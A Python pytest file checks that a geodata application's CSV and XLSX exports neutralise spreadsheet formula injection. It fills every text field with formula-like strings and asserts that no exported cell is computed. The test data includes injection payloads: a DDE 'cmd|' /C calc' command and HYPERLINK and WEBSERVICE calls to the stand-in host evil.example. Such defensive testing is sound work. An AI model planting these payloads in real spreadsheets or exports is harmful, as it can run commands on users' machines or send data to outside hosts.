"""Text that a spreadsheet would compute is text in every file that is written; numbers stay numbers."""

import csv
import io
import random
import re
import zipfile
from collections.abc import Iterator
from typing import Any

import openpyxl
import psycopg
import pytest
from hypothesis import given
from hypothesis import strategies as st
from people import client_of
from psycopg import sql
from starlette.testclient import TestClient

from geo.database import Database
from geo.ingest.sheet import FORMULA, quoted, unquoted
from geo.sheet import Table, workbook
from geo.text import Text

BEGINNINGS = ("=", "+", "-", "@", "\t", "\r", "\n", "\t=", "\r\n=", "＝", "＋", "－", "＠", "'=", "''+", "=-@")
BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "SUM(A1:A9)", "#REF!", "'", '"', "a,b;c",
          'WEBSERVICE("http://evil.example")', "", "REF!", "1e5", "2024-01-01", "\x01x\x1f", "甲")  # fmt: skip
ERRORS = ("#REF!", "#N/A", "#DIV/0!", "#NAME?", "#NULL!", "#NUM!", "#VALUE!")
NUMBER = re.compile(r"[-+]?[0-9]+([.][0-9]+)?(e[-+]?[0-9]+)?", re.IGNORECASE)
DRAWN = st.builds("".join, st.tuples(st.sampled_from([*BEGINNINGS, *ERRORS, ""]), st.sampled_from(BODIES), st.text()))
FIELDS = (
    "feature.name", "org_unit.name_zh", "org_unit.name_en", "activity.name_zh", "activity.name_en",
    "fund_source.name_zh", "fund_source.name_en", "document.number", "transaction.voucher", "transaction.note",
    "claim.sentence", "claim.scope", "claim.locator", "claim_note.note", "import.file", "feature.code",
)  # fmt: skip
UNIQUE = {"activity.name_zh", "fund_source.name_zh", "document.number", "transaction.voucher", "feature.code"}


def computed(name: str, content: bytes) -> list[str]:
    """The cells of a file that a spreadsheet would compute or take for an error."""
    if name.endswith(".csv"):
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        return [cell for row in rows for cell in row if cell.startswith(FORMULA) and not NUMBER.fullmatch(cell)]
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(each).decode() for each in archive.namelist() if each.startswith("xl/worksheets/sheet")]
    raw = [each for sheet in sheets for each in re.findall(r"<f[ >/]|t=\"e\"", sheet)]
    book = openpyxl.load_workbook(io.BytesIO(content))
    return raw + [str(cell.value) for page in book for row in page for cell in row if cell.data_type in ("f", "e")]


def numbers(name: str, content: bytes) -> int:
    """How many cells of a file are numbers."""
    if name.endswith(".csv"):
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        return sum(bool(NUMBER.fullmatch(cell)) for row in rows for cell in row)
    book = openpyxl.load_workbook(io.BytesIO(content))
    return sum(isinstance(cell.value, int | float) for page in book for row in page for cell in row)


def fill(database: Database, drawn: random.Random) -> None:
    """A text that looks like a formula, in every field."""
    texts = [a + b for a in (*BEGINNINGS, "") for b in BODIES] + list(ERRORS)
    drawn.shuffle(texts)
    with psycopg.connect(database.dsn) as connection:
        connection.execute("SET session_replication_role = replica")
        connection.execute("UPDATE transaction SET document = (SELECT min(id) FROM document)")
        connection.execute("INSERT INTO claim_note (document, claim, status, note, recorded_by)"
                           " SELECT document, id, 'open', 'x', 'x' FROM claim")  # fmt: skip
        for field in FIELDS:
            table, _, column = field.partition(".")
            connection.execute(
                sql.SQL(
                    "WITH row AS (SELECT ctid AS at, tableoid AS of, row_number() OVER () AS n FROM {table})"
                    " UPDATE {table} AS changed SET {column} = (%(texts)s::text[])[1 + row.n %% %(count)s] {unique}"
                    " FROM row WHERE changed.ctid = row.at AND changed.tableoid = row.of"
                ).format(
                    table=sql.Identifier(table), column=sql.Identifier(column),
                    unique=sql.SQL("|| row.n" if field in UNIQUE else ""),
                ),
                {"texts": texts, "count": len(texts)},
            )  # fmt: skip
        connection.execute(
            "UPDATE feature SET attributes = attributes || jsonb_build_object('programme', t, 'new_place', t)"
            " FROM (SELECT (%s::text[])[1 + (random() * 100)::int] AS t) AS any_text"
            " WHERE layer = 'relocation_household'",
            [texts],
        )


@pytest.fixture(scope="module")
def client(make_database: Any) -> Iterator[TestClient]:
    """The application over a demonstration in which every text looks like a formula."""
    database = make_database("demo")
    fill(database, random.Random(7))
    with client_of(database) as client:
        yield client


ITEMS = "/ogc/collections/relocation_household/items?limit=900&f="
FILES = {
    "/api/layers/relocation_household/export?format=csv": 100,
    "/api/layers/relocation_household/export?format=xlsx": 100,
    "/api/layers/farmland_patch/export?format=csv&headings=code": 10,
    "/api/layers/hazard_point/export?format=xlsx&headings=en": 10,
    f"{ITEMS}csv": 100, f"{ITEMS}xlsx": 100,
    "/ogc/collections/org_unit/items?f=csv": 1, "/ogc/collections/org_unit/items?f=xlsx": 0,
    "/api/money.xlsx": 100, "/api/money.xlsx?lang=en": 100, "/api/ledger.csv": 30, "/api/ledger.xlsx": 30,
    "/api/claims.xlsx": 50, "/api/claims.xlsx?lang=en": 50,
}  # fmt: skip


@pytest.mark.parametrize("address", FILES)
def test_no_file_holds_a_formula(client: TestClient, address: str) -> None:
    answer = client.get(address)
    assert answer.status_code == 200, answer.text[:300]
    name = ".csv" if "csv" in address else ".xlsx"
    assert computed(name, answer.content) == []
    assert numbers(name, answer.content) >= FILES[address]
    assert re.search(r"evil\.example|calc", _text(name, answer.content))  # the texts are there


def test_a_document_holds_what_it_is_given(client: TestClient) -> None:
    assert client.get("/api/claims.docx").status_code == 200


def _text(name: str, content: bytes) -> str:
    if name == ".csv":
        return content.decode("utf-8-sig")
    book = openpyxl.load_workbook(io.BytesIO(content))
    return " ".join(str(cell.value) for page in book for row in page for cell in row)


@given(st.lists(DRAWN, min_size=1, max_size=5))
def test_a_workbook_holds_every_text_as_text(texts: list[str]) -> None:
    usable = [
        each.replace("\r", "\n") for each in texts if not re.search(r"[\ud800-\udfff\ufffe\uffff]|_x[0-9A-F]{4}_", each)
    ]
    table = Table(Text(zh="a", en="a"), (), [Text(zh="n", en="n")] * 2, [[each, 5] for each in usable])
    written = workbook([table], "zh")
    assert computed(".xlsx", written) == []
    assert numbers(".xlsx", written) == len(usable)


@given(DRAWN)
def test_a_quoted_text_is_not_computed_and_comes_back(text: str) -> None:
    written = io.StringIO(newline="")
    csv.writer(written).writerow([quoted(text), -5, 1.5])
    content = written.getvalue().encode("utf-8-sig", "surrogatepass")
    ((cell, whole, share),) = csv.reader(io.StringIO(content.decode("utf-8-sig", "surrogatepass"), newline=""))
    assert not cell.startswith(FORMULA)
    assert unquoted(cell) == text
    assert (whole, share) == ("-5", "1.5")


def test_a_file_written_without_care_would_be_noticed() -> None:
    """The control."""
    texts = [each + "1+1" for each in BEGINNINGS if not each.startswith("'")]
    written = io.StringIO(newline="")
    csv.writer(written).writerow(texts)
    assert len(computed(".csv", written.getvalue().encode("utf-8-sig"))) == len(texts)
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "#REF!", "-1"])  # pyright: ignore
    into = io.BytesIO()
    book.save(into)
    assert len(computed(".xlsx", into.getvalue())) >= 3  # twice found, in the file and by the reader
